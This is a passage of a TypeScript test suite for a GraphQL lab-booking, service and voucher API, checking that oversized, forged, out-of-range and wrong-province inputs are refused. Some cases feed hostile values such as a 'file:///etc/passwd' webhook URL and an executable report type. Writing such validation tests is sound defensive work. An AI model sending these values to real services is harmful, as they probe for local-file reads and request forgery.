    { name: 'a 101-character idempotency key', as: 'li.wei', guard: true, request: (m) => op(BOOK, { ...validBooking(m), k: `k${m}${huge(100)}` }), expect: BAD_USER_INPUT },
    { name: 'a 201-character instrument name', as: 'sc.admin', guard: true, request: (m) => op(CREATE_INSTRUMENT, { input: { ...validInstrument(m), name: `${m}${huge(200)}` } }), expect: BAD_USER_INPUT },
    { name: 'a 4 001-character description', as: 'sc.admin', guard: true, request: (m) => op(CREATE_INSTRUMENT, { input: { ...validInstrument(m), description: `${m}${huge(4_000)}` } }), expect: BAD_USER_INPUT },
    { name: 'a 121-character holder name', as: 'sc.admin', guard: true, request: (m) => op(ISSUE, { input: { ...validCard(m), holderName: `${m}${huge(120)}` } }), expect: BAD_USER_INPUT },
    {
      name: '51 partner institutions',
      as: 'sc.admin',
      guard: true,
      request: (m) => op(CREATE_LAB, { input: { ...validLab(m), partnerProvince: 'CHONGQING', partnerInstitutions: Array.from({ length: 51 }, (_, i) => `Institution ${i}`) } }),
      expect: BAD_USER_INPUT,
    },
    { name: 'a 300-character recognition code to remove', as: 'sc.admin', request: () => op('mutation($c: String!) { removeSichuanRecognitionItem(code: $c) { code } }', { c: huge(300) }), expect: BAD_USER_INPUT },
  ]);
});

describe('negative, huge and forged pagination', () => {
  const INSTRUMENTS = 'query($first: Int, $after: String) { sichuan { instruments(first: $first, after: $after) { totalCount edges { node { id } } } } }';
  const BOOKINGS = 'query($first: Int, $after: String) { sichuan { bookings(first: $first, after: $after) { totalCount } } }';
  const AUDIT = 'query($first: Int, $after: String) { sichuan { auditLog(first: $first, after: $after) { edges { node { id } } } } }';
  cases([
    { name: 'first: -1', targets: BOTH, request: () => op(INSTRUMENTS, { first: -1 }), expect: BAD_USER_INPUT },
    { name: 'first: 0', targets: BOTH, request: () => op(INSTRUMENTS, { first: 0 }), expect: BAD_USER_INPUT },
    // The subgraph's own operation limits answer before the resolver's page-size check.
    { name: 'first: 101 straight at the subgraph', targets: ['sichuan'], request: () => op(INSTRUMENTS, { first: 101 }), expect: LIMIT },
    { name: 'first: -2147483648', targets: BOTH, request: () => op(INSTRUMENTS, { first: -(2 ** 31) }), expect: BAD_USER_INPUT },
    { name: 'after: text that is no cursor', targets: BOTH, request: () => op(INSTRUMENTS, { after: 'not-a-cursor' }), expect: BAD_USER_INPUT },
    { name: 'after: a cursor of another list (an audit position)', request: () => op(INSTRUMENTS, { after: cursor(['1']) }), expect: BAD_USER_INPUT },
    {
      name: 'after: a forged cursor whose id is 36 dashes',
      targets: BOTH,
      request: () => op(INSTRUMENTS, { after: cursor(['x', '-'.repeat(36)]) }),
      expect: BAD_USER_INPUT,
    },
    {
      name: 'after: a forged cursor whose name holds a NUL character',
      targets: BOTH,
      request: () => op(INSTRUMENTS, { after: cursor(['a\u0000b', randomUUID()]) }),
      expect: BAD_USER_INPUT,
    },
    { name: 'bookings first: -5', as: 'sc.admin', request: () => op(BOOKINGS, { first: -5 }), expect: BAD_USER_INPUT },
    { name: 'bookings after: a forged cursor', as: 'sc.admin', request: () => op(BOOKINGS, { after: cursor(['yesterday', 'x']) }), expect: BAD_USER_INPUT },
    {
      name: 'bookings after: a cursor far in the future finds nothing',
      as: 'sc.admin',
      request: () => op(BOOKINGS, { after: cursor(['2199-12-31T00:00:00.000Z', randomUUID()]) }),
      expect: { ok: (data) => expect(data.sichuan.bookings).toEqual(expect.objectContaining({ totalCount: expect.any(Number) })) },
    },
    { name: 'audit log first: 0', as: 'sc.admin', request: () => op(AUDIT, { first: 0 }), expect: BAD_USER_INPUT },
    { name: 'audit log after: a negative position', as: 'sc.admin', request: () => op(AUDIT, { after: cursor(['-1']) }), expect: BAD_USER_INPUT },
    {
      name: 'audit log after: a position beyond bigint',
      as: 'sc.admin',
      targets: BOTH,
      request: () => op(AUDIT, { after: cursor(['9999999999999999999']) }),
      expect: BAD_USER_INPUT,
    },
  ]);
});

describe('automatic persisted queries', () => {
  const persisted = (hash: unknown, version: unknown = 1, query?: string) => json(JSON.stringify({ query, extensions: { persistedQuery: { version, sha256Hash: hash } } }));
  cases([
    { name: 'an unknown hash', request: () => persisted('0'.repeat(64)), expect: refused('PERSISTED_QUERY_NOT_FOUND', 200) },
    { name: 'a hash that is a number', request: () => persisted(5), expect: refused(['PERSISTED_QUERY_NOT_FOUND', 'BAD_REQUEST'], [200, 400]) },
    {
      name: 'a hash that does not match the query',
      request: () => persisted('a'.repeat(64), 1, '{ __typename }'),
      expect: BAD_REQUEST,
    },
    {
      name: 'an unsupported version',
      request: () => persisted(createHash('sha256').update('{ __typename }').digest('hex'), 2, '{ __typename }'),
      expect: BAD_REQUEST,
    },
  ]);
});

describe('hostile text in every string input', () => {
  describe('reads', () => cases(hostileText(READ_INPUTS)));
  describe('sign-in and sessions', () => cases(hostileText(SIGN_IN_INPUTS)));
  describe('bookings', () => cases(hostileText(BOOKING_INPUTS)));
  describe('talent cards', () => cases(hostileText(CARD_INPUTS)));
  describe('instruments and labs', () => cases(hostileText(REGISTRY_INPUTS)));
  // An accepted hostile value changes this file's own copy of the catalogue only (each test file has its own databases).
  describe('the recognition catalogue', () => cases(hostileText(CATALOGUE_INPUTS)));
});

describe('hostile text in the service, charge and voucher areas', () => {
  describe('offerings and prices', () => cases(hostileText(OFFERING_INPUTS)));
  describe('service requests and reports', () => cases(hostileText(SERVICE_REQUEST_INPUTS)));
  describe('charges and statements', () => cases(hostileText(CHARGE_INPUTS)));
  describe('vouchers', () => cases(hostileText(VOUCHER_INPUTS)));
  describe('webhook subscriptions and events', () => cases(hostileText(WEBHOOK_INPUTS)));
  describe('external sign-in and calendar feeds', () => cases(hostileText(SIGN_IN_ELSEWHERE_INPUTS)));
});

describe('absurd amounts and counts', () => {
  /** Fen amounts no price, quote, credit or voucher may be: GraphQL refuses what is no 32-bit integer, the service the rest. */
  const ABSURD: readonly [string, unknown, Refusal][] = [
    ['-1 fen', -1, BAD_USER_INPUT],
    ['2^31 fen', 2 ** 31, BAD_VARIABLE],
    ['2^53 + 1 fen', 2 ** 53 + 1, BAD_VARIABLE],
    ['12.5 fen', 12.5, BAD_VARIABLE],
    ['"NaN" fen', 'NaN', BAD_VARIABLE],
    ['"1e3" fen', '1e3', BAD_VARIABLE],
  ];
  const each = (what: string, request: (amount: unknown, m: string) => RequestSpec | Promise<RequestSpec>, as: Who, zero: Refusal | null): Case[] => [
    ...(zero ? [['0 fen', 0, zero] as const] : []),
    ...ABSURD,
  ].map(([name, amount, expect]) => ({ name: `${what} of ${name}`, as, guard: true, request: (m: string) => request(amount, m), expect }));
  const price = (amountFen: unknown) => SC_STANDARD.map((entry, i) => (i === 0 ? { ...entry, amountFen } : entry));
  cases([
    ...each('a price', (a, m) => op(CREATE_OFFERING, { input: { ...validOffering(m), prices: price(a) } }), 'sc.admin', null),
    { name: 'a price of 100 000 001 fen', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), prices: price(100_000_001) } }), expect: BAD_USER_INPUT },
    ...each('new prices', (a) => op('mutation($id: ID!, $p: [PriceInput!]!) { setSichuanOfferingPrices(id: $id, prices: $p) { id } }', { id: sx.scOffering, p: price(a) }), 'sc.admin', null),
    ...each('a quote', async (a) => op(QUOTE, { id: sx.scRequest, a, u: daysFromNow(20) }), 'sc.admin', BAD_USER_INPUT),
    ...each('a credit', (a) => op(CREDIT, { id: sx.scCharge, a, r: 'Goodwill' }), 'sc.admin', BAD_USER_INPUT),
    { name: 'a credit of more than the charge comes to', as: 'sc.admin', guard: true, request: () => op(CREDIT, { id: sx.scCharge, a: 40_001, r: 'Goodwill' }), expect: refused(['BAD_USER_INPUT', 'CONFLICT']) },
    ...each('a voucher', (a, m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), amountFen: a } }), 'sc.admin', BAD_USER_INPUT),
    ...each('a reservation', (a) => op(RESERVE, { ...validReserve(), a }), 'chen.jing', BAD_USER_INPUT),
    ...each('a reserved charge', (c) => op(RESERVE, { ...validReserve(), c }), 'chen.jing', BAD_USER_INPUT),
    ...each('a voucher payment', (a, m) => op(PAY, { ...validPay(m), a }), 'chen.jing', BAD_USER_INPUT),
    ...each('a paid charge', (c, m) => op(PAY, { ...validPay(m), c }), 'chen.jing', BAD_USER_INPUT),
    { name: 'a voucher paying more than the charge', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), a: 40_001 }), expect: BAD_USER_INPUT },
    { name: 'a payment naming another amount than the charge comes to', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), c: 1_000_000, a: 400_000 }), expect: refused(['BAD_USER_INPUT', 'CONFLICT']) },
    { name: 'a voucher paying its own voucher charge past 2^31 in total', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), c: 2 ** 31 - 1, a: 2 ** 31 - 1 }), expect: refused(['BAD_USER_INPUT', 'CONFLICT']) },
    ...[0, -1, 101].map((percent): Case => ({ name: `a voucher paying ${percent}% of a charge`, as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), maxSharePercent: percent } }), expect: BAD_USER_INPUT })),
    ...[0, -1, 3_601].map((seconds): Case => ({ name: `a hold expiring in ${seconds} s`, as: 'chen.jing', guard: true, request: () => op(RESERVE, { ...validReserve(), e: seconds }), expect: BAD_USER_INPUT })),
    ...[0, -1, 1_001].map((count): Case => ({ name: `${count} samples`, as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), sampleCount: count } }), expect: BAD_USER_INPUT })),
    { name: '2^31 samples', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), sampleCount: 2 ** 31 } }), expect: BAD_VARIABLE },
    ...[0, -1, 366].map((days): Case => ({ name: `a turnaround of ${days} days`, as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), turnaroundDays: days } }), expect: BAD_USER_INPUT })),
    { name: 'a concentration of NaN', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [{ name: 'organism', value: 'Rice' }, { name: 'concentration', value: 'NaN' }] } }), expect: BAD_USER_INPUT },
    { name: 'a concentration of Infinity', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [{ name: 'organism', value: 'Rice' }, { name: 'concentration', value: 'Infinity' }] } }), expect: BAD_USER_INPUT },
    { name: 'a concentration of 1e400', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [{ name: 'organism', value: 'Rice' }, { name: 'concentration', value: '1e400' }] } }), expect: BAD_USER_INPUT },
    { name: 'a time band from hour 25', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), kind: 'SELF_OPERATED', sampleForm: [], prices: [...SC_STANDARD, { category: 'ENTERPRISE', band: 'NIGHT', fromHour: 25, toHour: 26, amountFen: 1 }] } }), expect: BAD_USER_INPUT },
    { name: 'a time band from hour -1', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), kind: 'SELF_OPERATED', sampleForm: [], prices: [...SC_STANDARD, { category: 'ENTERPRISE', band: 'NIGHT', fromHour: -1, toHour: 6, amountFen: 1 }] } }), expect: BAD_USER_INPUT },
    { name: 'service requests first: 0', as: 'sc.admin', request: () => op('{ sichuan { serviceRequests(first: 0) { totalCount } } }'), expect: BAD_USER_INPUT },
    { name: 'vouchers first: -1', as: 'sc.admin', request: () => op('{ sichuan { vouchers(first: -1) { totalCount } } }'), expect: BAD_USER_INPUT },
    { name: 'voucher holds first: -2147483648', as: 'sc.admin', request: () => op('query($f: Int) { sichuan { voucherHolds(first: $f) { totalCount } } }', { f: -(2 ** 31) }), expect: BAD_USER_INPUT },
    { name: 'events first: 0', as: 'sc.admin', request: () => op('{ sichuan { events(first: 0) { edges { cursor } } } }'), expect: BAD_USER_INPUT },
    { name: 'service requests after: a forged cursor', as: 'sc.admin', request: () => op('query($a: String) { sichuan { serviceRequests(after: $a) { totalCount } } }', { a: cursor(['yesterday', 'x']) }), expect: BAD_USER_INPUT },
    { name: 'vouchers after: a forged cursor', as: 'sc.admin', request: () => op('query($a: String) { sichuan { vouchers(after: $a) { totalCount } } }', { a: cursor(['2026-01-01T00:00:00Z', 'not-a-uuid']) }), expect: BAD_USER_INPUT },
    { name: 'events after: a position beyond bigint', as: 'sc.admin', request: () => op('query($a: String) { sichuan { events(after: $a) { edges { cursor } } } }', { a: cursor(['9999999999999999999']) }), expect: BAD_USER_INPUT },
  ]);
});

describe('ids of the wrong province or type: services, charges and vouchers', () => {
  const read = (field: string, id: string) => op(`query($id: ID!) { sichuan { ${field}(id: $id) { id } } }`, { id });
  cases([
    { name: 'a Chongqing offering asked of Sichuan', targets: BOTH, request: () => read('offering', sx.cqOffering), expect: BAD_USER_INPUT },
    { name: 'an instrument id as an offering id', request: () => read('offering', fx.scInstrument), expect: BAD_USER_INPUT },
    { name: 'offerings of a Chongqing instrument asked of Sichuan', request: () => op('query($id: ID) { sichuan { offerings(instrumentId: $id) { id } } }', { id: fx.cqInstrument }), expect: BAD_USER_INPUT },
    { name: 'a service request id that is a charge', as: 'chen.jing', request: () => read('serviceRequest', sx.scCharge), expect: BAD_USER_INPUT },
    { name: 'a charge id that is a service request', as: 'chen.jing', request: () => read('charge', sx.scRequest), expect: BAD_USER_INPUT },
    { name: 'a Chongqing charge asked of Sichuan', as: 'li.wei', targets: BOTH, request: () => read('charge', sx.cqCharge), expect: BAD_USER_INPUT },
    { name: 'a Sichuan voucher asked of Chongqing', as: 'chen.jing', targets: ['gateway', 'chongqing'], request: () => op('query($id: ID!) { chongqing { voucher(id: $id) { id } } }', { id: sx.scVoucher }), expect: BAD_USER_INPUT },
    { name: 'a statement of a payer id that is an instrument', as: 'sc.admin', request: () => op(STATEMENT, { p: fx.scInstrument, from: daysFromNow(-30), to: daysFromNow(1) }), expect: BAD_USER_INPUT },
    { name: 'an offering on a Chongqing instrument', as: 'sc.admin', targets: BOTH, guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), instrumentId: fx.cqInstrument } }), expect: BAD_USER_INPUT },
    { name: 'an offering of a Chongqing lab', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), kind: 'CONSULTATION', sampleForm: [], instrumentId: null, labId: fx.cqLab } }), expect: BAD_USER_INPUT },
    { name: 'an offering on a lab id given as the instrument', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), instrumentId: fx.scLab } }), expect: BAD_USER_INPUT },
    { name: 'an offering on an instrument and a lab at once', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), labId: fx.scLab } }), expect: BAD_USER_INPUT },
    { name: 'an offering on neither instrument nor lab', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), instrumentId: null } }), expect: BAD_USER_INPUT },
    { name: 'an offering on an instrument that does not exist', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), instrumentId: scId('instrument') } }), expect: refused(['NOT_FOUND', 'BAD_USER_INPUT']) },
    { name: 'changing a Chongqing offering in Sichuan', as: 'sc.admin', guard: true, request: (m) => op('mutation($id: ID!, $n: String) { updateSichuanOffering(id: $id, input: { name: $n }) { id } }', { id: sx.cqOffering, n: m }), expect: BAD_USER_INPUT },
    { name: 'prices of a Chongqing offering set in Sichuan', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!, $p: [PriceInput!]!) { setSichuanOfferingPrices(id: $id, prices: $p) { id } }', { id: sx.cqOffering, p: SC_STANDARD }), expect: BAD_USER_INPUT },
    { name: 'a request for a Chongqing offering sent to Sichuan', as: 'chen.jing', targets: BOTH, guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), offeringId: sx.cqOffering } }), expect: BAD_USER_INPUT },
    { name: 'a request naming an instrument as its offering', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), offeringId: fx.scInstrument } }), expect: BAD_USER_INPUT },
    { name: 'a request for an offering that does not exist', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), offeringId: scId('offering') } }), expect: NOT_FOUND },
    { name: 'quoting a booking', as: 'sc.admin', guard: true, request: () => op(QUOTE, { id: fx.scBooking, a: 1_000, u: daysFromNow(20) }), expect: BAD_USER_INPUT },
    { name: 'quoting a request that does not exist', as: 'sc.admin', guard: true, request: () => op(QUOTE, { id: scId('servicerequest'), a: 1_000, u: daysFromNow(20) }), expect: NOT_FOUND },
    { name: 'accepting an offering', as: 'chen.jing', guard: true, request: () => op('mutation($id: ID!) { acceptSichuanServiceQuote(id: $id) { id } }', { id: sx.scOffering }), expect: BAD_USER_INPUT },
    { name: 'a report for a Chongqing request id in Sichuan', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_REPORT, { id: cqId('servicerequest'), r: validReport(m) }), expect: BAD_USER_INPUT },
    { name: 'crediting a Chongqing charge in Sichuan', as: 'sc.admin', targets: BOTH, guard: true, request: () => op(CREDIT, { id: sx.cqCharge, a: 100, r: 'Goodwill' }), expect: BAD_USER_INPUT },
    { name: 'crediting a service request', as: 'sc.admin', guard: true, request: () => op(CREDIT, { id: sx.scRequest, a: 100, r: 'Goodwill' }), expect: BAD_USER_INPUT },
    { name: 'crediting a charge that does not exist', as: 'sc.admin', guard: true, request: () => op(CREDIT, { id: scId('charge'), a: 100, r: 'Goodwill' }), expect: NOT_FOUND },
    { name: 'paying a Chongqing charge in Sichuan', as: 'li.wei', targets: BOTH, guard: true, request: (m) => op(PAY, { ...validPay(m), ref: sx.cqCharge }), expect: BAD_USER_INPUT },
    { name: 'paying a service request as if a charge', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), ref: sx.scRequest }), expect: BAD_USER_INPUT },
    { name: 'paying with an instrument as the voucher', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), v: fx.scInstrument }), expect: BAD_USER_INPUT },
    { name: 'paying with a voucher of no province', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), v: `xx:voucher:${randomUUID()}` }), expect: BAD_USER_INPUT },
    // Not guarded: the serving side records its intent before it asks the issuer, and keeps the refusal it answered.
    { name: 'paying with a voucher that does not exist', as: 'chen.jing', request: (m) => op(PAY, { ...validPay(m), v: cqId('voucher') }), expect: refused(['NOT_FOUND', 'CONFLICT']) },
    { name: 'paying a charge that does not exist', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), ref: scId('charge') }), expect: NOT_FOUND },
    { name: 'reserving a Sichuan voucher on Chongqing', as: 'chen.jing', targets: ['gateway', 'chongqing'], guard: true, request: () => op(RESERVE, { ...validReserve(), v: sx.scVoucher }), expect: BAD_USER_INPUT },
    { name: 'capturing a hold of a Sichuan voucher on Chongqing', targets: ['gateway', 'chongqing'], guard: true, request: () => op(HOLD_STEP('capture'), { v: sx.scVoucher, k: randomUUID(), s: 'SICHUAN' }), expect: BAD_USER_INPUT },
    { name: 'a voucher for a holder id that is an instrument', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), holderUserId: fx.scInstrument } }), expect: BAD_USER_INPUT },
    { name: 'a voucher for a holder the platform does not know', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), holderUserId: randomUUID() } }), expect: BAD_USER_INPUT },
    // The platform's answer for a client it does not know, as for a grant to one.
    { name: 'a webhook of a client the platform does not know', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), clientId: `nobody-${m}` } }), expect: refused('FORBIDDEN') },
    // Subscriptions and feeds are named by bare UUIDs: a global id of anything names none of them.
    { name: 'changing a Chongqing webhook in Sichuan', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!) { updateSichuanWebhookSubscription(id: $id, input: { active: false }) { id } }', { id: cqId('webhookSubscription') }), expect: NOT_FOUND },
    { name: 'deleting an instrument as a webhook', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!) { deleteSichuanWebhookSubscription(id: $id) }', { id: fx.scInstrument }), expect: NOT_FOUND },
    { name: 'revoking a calendar feed that is a booking', as: 'chen.jing', targets: ['gateway', 'platform'], request: () => op('mutation($id: ID!) { revokeCalendarFeed(id: $id) { id } }', { id: fx.scBooking }), expect: NOT_FOUND },
  ]);
});

describe('reused idempotency keys and hold keys: services and vouchers', () => {
  /** Sends `first` once (it must succeed), then the same key with `change`. */
  const again = (query: string, who: Who, first: (m: string) => Record<string, unknown>, change: () => Record<string, unknown> | Promise<Record<string, unknown>>) => async (m: string) => {
    const variables = first(m);
    await must(query, fx.tokens[who], variables);
    return op(query, { ...variables, ...(await change()) });
  };
  const submitted = (m: string) => ({ input: validRequest(m) });
  const resubmitted = (change: Record<string, unknown>) => async (m: string) => {
    const first = validRequest(m);
    await must(SUBMIT, fx.tokens['chen.jing'], { input: first });
    return op(SUBMIT, { input: { ...first, ...change } });
  };
  cases([
    { name: 'a request key reused with another description', as: 'chen.jing', targets: BOTH, guard: true, request: resubmitted({ description: 'Something else entirely' }), expect: CONFLICT },
    { name: 'a request key reused with another sample count', as: 'chen.jing', guard: true, request: resubmitted({ sampleCount: 4 }), expect: CONFLICT },
    { name: 'a request key reused with other form values', as: 'chen.jing', guard: true, request: resubmitted({ formValues: [{ name: 'organism', value: 'Zea mays' }, { name: 'concentration', value: '52.5' }] }), expect: CONFLICT },
    { name: 'a request key reused for another offering', as: 'chen.jing', guard: true, request: resubmitted({ offeringId: scId('offering') }), expect: CONFLICT },
    // Keys are each requester's own: the same key from someone else is their own new request.
    { name: 'a request key used by someone else', as: 'li.wei', request: async (m) => { await must(SUBMIT, fx.tokens['chen.jing'], submitted(m)); return op(SUBMIT, submitted(m)); }, expect: { ok: (data) => expect(data.result.id).toMatch(/^sc:servicerequest:/) } },
    { name: 'a payment key reused with another amount', as: 'chen.jing', targets: BOTH, guard: true, request: again(PAY, 'chen.jing', validPay, () => ({ a: 200 })), expect: CONFLICT },
    { name: 'a payment key reused with another voucher', as: 'chen.jing', guard: true, request: again(PAY, 'chen.jing', validPay, () => ({ v: sx.scVoucher })), expect: CONFLICT },
    { name: 'a payment key reused for another charge', as: 'chen.jing', guard: true, request: again(PAY, 'chen.jing', validPay, async () => ({ ref: await chargeFor(sql, 'sichuan', 40_000) })), expect: CONFLICT },
    { name: 'a hold key reused with another amount', as: 'chen.jing', targets: ['gateway', 'chongqing'], guard: true, request: again(RESERVE, 'chen.jing', validReserve, () => ({ a: 200 })), expect: CONFLICT },
    { name: 'a hold key reused for another charge', as: 'chen.jing', guard: true, request: again(RESERVE, 'chen.jing', validReserve, () => ({ ref: 'CHG-OTHER' })), expect: CONFLICT },
    { name: 'a hold key reused for another serving province', as: 'chen.jing', guard: true, request: again(RESERVE, 'chen.jing', validReserve, () => ({ s: 'CHONGQING' })), expect: CONFLICT },
  ]);
});

describe('unknown enum-like values: services, charges and vouchers', () => {
  cases([
    { name: 'an offering kind that does not exist', as: 'sc.admin', targets: BOTH, guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), kind: 'EXPLODED' } }), expect: BAD_VARIABLE },
    { name: 'a customer category that does not exist', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), prices: [...SC_STANDARD, { category: 'ALIEN', amountFen: 1 }] } }), expect: BAD_VARIABLE },
    { name: 'a sample field type that does not exist', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), sampleForm: [{ name: 'photo', label: 'Photo', type: 'IMAGE' }] } }), expect: BAD_VARIABLE },
    { name: 'a band in small letters', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), kind: 'SELF_OPERATED', sampleForm: [], prices: [...SC_STANDARD, { category: 'ENTERPRISE', band: 'evening', fromHour: 18, toHour: 22, amountFen: 1 }] } }), expect: BAD_USER_INPUT },
    { name: 'a sample form field named twice', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), sampleForm: [validOffering(m).sampleForm[0], validOffering(m).sampleForm[0]] } }), expect: BAD_USER_INPUT },
    { name: 'an offering kind literal that does not exist', targets: BOTH, request: () => op('{ sichuan { offerings(kind: EXPLODED) { id } } }'), expect: VALIDATION_FAILED },
    { name: 'a service request status that does not exist', as: 'sc.admin', request: () => op('query($s: ServiceRequestStatus) { sichuan { serviceRequests(status: $s) { totalCount } } }', { s: 'PAID' }), expect: BAD_VARIABLE },
    { name: 'a serving province that does not exist', as: 'chen.jing', targets: ['gateway', 'chongqing'], guard: true, request: () => op(RESERVE, { ...validReserve(), s: 'BEIJING' }), expect: BAD_VARIABLE },
    { name: 'a voucher accepted in a province that does not exist', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), acceptedIn: ['TIBET'] } }), expect: BAD_VARIABLE },
    { name: 'a voucher accepted nowhere', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), acceptedIn: [] } }), expect: BAD_USER_INPUT },
    { name: 'a hold status that does not exist', as: 'sc.admin', request: () => op('query($s: VoucherHoldStatus) { sichuan { voucherHolds(status: $s) { totalCount } } }', { s: 'STOLEN' }), expect: BAD_VARIABLE },
    { name: 'a form value of a field the offering does not ask', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [...validRequest(m).formValues, { name: 'colour', value: 'red' }] } }), expect: BAD_USER_INPUT },
    { name: 'a required form value left out', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [{ name: 'organism', value: 'Rice' }] } }), expect: BAD_USER_INPUT },
    { name: 'a form value given twice', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [...validRequest(m).formValues, { name: 'organism', value: 'Maize' }] } }), expect: BAD_USER_INPUT },
    { name: 'a date form value of 30 February', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [...validRequest(m).formValues, { name: 'collectedOn', value: '2026-02-30' }] } }), expect: BAD_USER_INPUT },
    { name: 'a report whose type is an executable', as: 'sc.admin', guard: true, request: async (m) => op(ISSUE_REPORT, { id: await requestAt('IN_PROGRESS'), r: { ...validReport(m), contentType: 'application/x-msdownload' } }), expect: BAD_USER_INPUT },
    { name: 'a PDF sent as a PNG', as: 'sc.admin', guard: true, request: async (m) => op(ISSUE_REPORT, { id: await requestAt('IN_PROGRESS'), r: { ...validReport(m), contentType: 'image/png' } }), expect: BAD_USER_INPUT },
    { name: 'a report that is not base64', as: 'sc.admin', guard: true, request: async (m) => op(ISSUE_REPORT, { id: await requestAt('IN_PROGRESS'), r: { ...validReport(m), contentBase64: '%%%not base64%%%' } }), expect: BAD_USER_INPUT },
    { name: 'an empty report', as: 'sc.admin', guard: true, request: async (m) => op(ISSUE_REPORT, { id: await requestAt('IN_PROGRESS'), r: { ...validReport(m), contentBase64: '' } }), expect: BAD_USER_INPUT },
    { name: 'a report for a request not yet started', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_REPORT, { id: sx.scRequest, r: validReport(m) }), expect: CONFLICT },
    { name: 'a webhook for an event type that does not exist', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), eventTypes: ['booking.exploded'] } }), expect: BAD_USER_INPUT },
    { name: 'a webhook for no event type', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), eventTypes: [] } }), expect: BAD_USER_INPUT },
    { name: 'a webhook to a file: address', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), url: 'file:///etc/passwd' } }), expect: BAD_USER_INPUT },
    { name: 'an identity provider that is not configured', targets: ['gateway', 'platform'], request: () => op('mutation { beginExternalSignIn(provider: "evil", redirectUri: "http://127.0.0.1:5173/signed-in") { state } }'), expect: BAD_USER_INPUT },
  ]);
});

describe('dates out of range: services, charges and vouchers', () => {
  const statement = (from: string, to: string) => () => op(STATEMENT, { from, to });
  cases([
    { name: 'a request needed yesterday', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), neededBy: daysFromNow(-1) } }), expect: BAD_USER_INPUT },
    { name: 'a request needed in 400 days', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), neededBy: daysFromNow(400) } }), expect: BAD_USER_INPUT },
    { name: 'a request needed in the year 9999', as: 'chen.jing', targets: BOTH, guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), neededBy: '9999-12-31T23:59:59Z' } }), expect: refused('BAD_USER_INPUT', [200, 400]) },
    { name: 'a quote valid until yesterday', as: 'sc.admin', guard: true, request: () => op(QUOTE, { id: sx.scRequest, a: 1_000, u: daysFromNow(-1) }), expect: BAD_USER_INPUT },
    { name: 'a quote valid for 200 days', as: 'sc.admin', guard: true, request: () => op(QUOTE, { id: sx.scRequest, a: 1_000, u: daysFromNow(200) }), expect: BAD_USER_INPUT },
    { name: 'a voucher valid until before it is valid from', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), validFrom: daysFromNow(10), validUntil: daysFromNow(5) } }), expect: BAD_USER_INPUT },
